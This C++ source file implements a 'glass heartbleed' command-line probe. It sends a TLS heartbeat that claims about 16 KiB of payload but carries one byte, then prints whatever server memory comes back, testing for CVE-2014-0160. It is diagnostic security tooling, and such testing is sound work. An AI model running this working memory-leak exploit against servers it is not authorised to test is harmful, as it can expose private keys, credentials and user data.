// glass heartbleed HOST:PORT — does this server check a HeartbeatRequest's
// payload_length (RFC 6520 §4)? It agrees heartbeats, proves them with an
// honest request, then sends one that claims 16 KiB but carries one byte.
// A correct server discards it silently; a vulnerable one (CVE-2014-0160,
// or glass server --heartbleed-demo) answers with memory it was never sent.
#include <unistd.h>

#include <iostream>

#include "cli.hpp"
#include "glasstls/handshake_client.hpp"
#include "glasstls/socket_driver.hpp"

namespace glass {

namespace {
using namespace glasstls;

const char* kUsage =
    "usage: glass heartbleed HOST:PORT [--servername NAME] [--claim BYTES] [--timeout SECONDS]\n"
    "Tests whether the server leaks memory through heartbeats (Heartbleed, CVE-2014-0160).\n"
    "The server's certificate is not verified: this is a probe, not a client to trust.\n"
    "Exit 0: nothing leaked (heartbeats unsupported, or the lie discarded); 1: the server\n"
    "LEAKED bytes (shown); 2: it could not be tested.\n";

void show(const Bytes& leaked) {
    std::cout << "  what came back, beyond the 1 byte we sent (" << leaked.size() - 1 << " bytes):\n";
    std::string line;
    for (std::size_t i = 1; i < leaked.size(); ++i) {
        const unsigned char c = leaked[i];
        line += c == '\n' ? std::string("\n  | ") : c == '\r' ? std::string() : (c >= 32 && c < 127) ? std::string(1, static_cast<char>(c)) : ".";
        if (line.size() > 1500) {
            line += "\n  | … (the rest not shown)";
            break;
        }
    }
    std::cout << "  | " << line << "\n";
}

// Waits at most `ms` for the answer to our HeartbeatRequest and returns the
// responses that came (none: no answer); `open` is false when the
// connection ended meanwhile. It returns as soon as an answer is in, so a
// server that leaks is reported at once, not after the whole wait.
std::vector<Bytes> wait_for_heartbeat(Connection& conn, SocketDriver& driver, int ms, bool& open) {
    std::vector<Bytes> got;
    const Wake w = driver.wait_until([&] {
        for (Bytes& b : conn.take_heartbeat_responses()) got.push_back(std::move(b));
        return !got.empty();
    }, ms);
    open = w == Wake::quiet || w == Wake::progress;
    return got;
}

// The handshake, then an honest heartbeat: the exit code when the server
// cannot be tested or has nothing to bleed; nullopt when the lie may follow.
std::optional<int> agree_heartbeats(Connection& conn, SocketDriver& driver, int timeout_ms) {
    conn.start();
    if (driver.handshake() != Wake::progress) {
        std::cout << "COULD NOT TEST: the TLS 1.2 handshake did not complete\n";
        return 2;
    }
    if (!conn.info().heartbeat) {
        std::cout << "NOT SUPPORTED: the server did not agree to heartbeats (no heartbeat extension in its ServerHello, RFC 6520 §2):\n"
                  << "nothing to bleed.\n";
        return 0;
    }
    conn.send_heartbeat(as_bytes("honest"));
    bool open = true;
    const std::vector<Bytes> honest = wait_for_heartbeat(conn, driver, timeout_ms, open);
    if (honest.empty()) {
        std::cout << "COULD NOT TEST: the server agreed to heartbeats but did not answer an honest one\n";
        return 2;
    }
    return std::nullopt;
}

// The HeartbeatRequest that claims `claim` bytes of payload but carries one,
// and the verdict on the answer; closes `fd`. 1 when the server leaked.
int send_the_lie(Connection& conn, SocketDriver& driver, int fd, std::size_t claim, int timeout_ms) {
    std::cout << "The server agreed to heartbeats and answered an honest one ('honest', 6 bytes).\n"
              << "Now a HeartbeatRequest that claims " << claim << " bytes of payload but carries 1 ...\n";
    conn.send_heartbeat(as_bytes("A"), static_cast<std::uint16_t>(claim));
    bool open = true;
    const std::vector<Bytes> lie = wait_for_heartbeat(conn, driver, timeout_ms, open);
    close(fd);
    if (!lie.empty() && lie[0].size() > 1) {
        std::cout << "LEAKED: the server answered with " << lie[0].size() << " bytes for the 1 it was sent: it copied memory it was\n"
                  << "never given — it does not check payload_length against the record (RFC 6520 §4; CVE-2014-0160).\n";
        show(lie[0]);
        return 1;
    }
    std::cout << "DISCARDED (safe): " << (open ? "no answer" : "the server closed the connection")
              << " — the request that lied about its length was discarded, as RFC 6520 §4 requires.\n";
    return 0;
}

} // namespace

int cmd_heartbleed(const std::vector<std::string>& argv) {
    Args args(argv, {"help"}, {"servername", "claim", "timeout"});
    if (args.flag("help")) {
        std::cout << kUsage;
        return 0;
    }
    if (args.positional().size() != 1) throw UsageError("give one HOST:PORT");
    const HostPort where = parse_host_port(args.positional()[0]);
    const std::size_t claim = std::min<std::size_t>(args.get_size("claim", 16000), 16365);
    const int timeout_ms = static_cast<int>(args.get_size("timeout", 3)) * 1000;
    ClientConfig config;
    config.server_name = args.get("servername").value_or(where.host);
    config.verify_peer = false;
    config.offer_heartbeat = true;
    int fd;
    try {
        fd = connect_tcp(where);
    } catch (const std::exception& e) {
        std::cerr << "glass heartbleed: " << e.what() << "\n";
        return 2;
    }
    Connection conn(crypto::system_random(), nullptr);
    conn.set_engine(std::make_unique<ClientHandshake>(conn, config));
    SocketDriver driver(conn, fd, Deadlines{.handshake_ms = 10000});
    try {
        if (const std::optional<int> untested = agree_heartbeats(conn, driver, timeout_ms)) {
            close(fd);
            return *untested;
        }
        return send_the_lie(conn, driver, fd, claim, timeout_ms);
    } catch (const TlsError& e) {
        std::cout << "COULD NOT TEST: " << e.describe() << "\n";
        close(fd);
        return 2;
    }
}

} // namespace glass
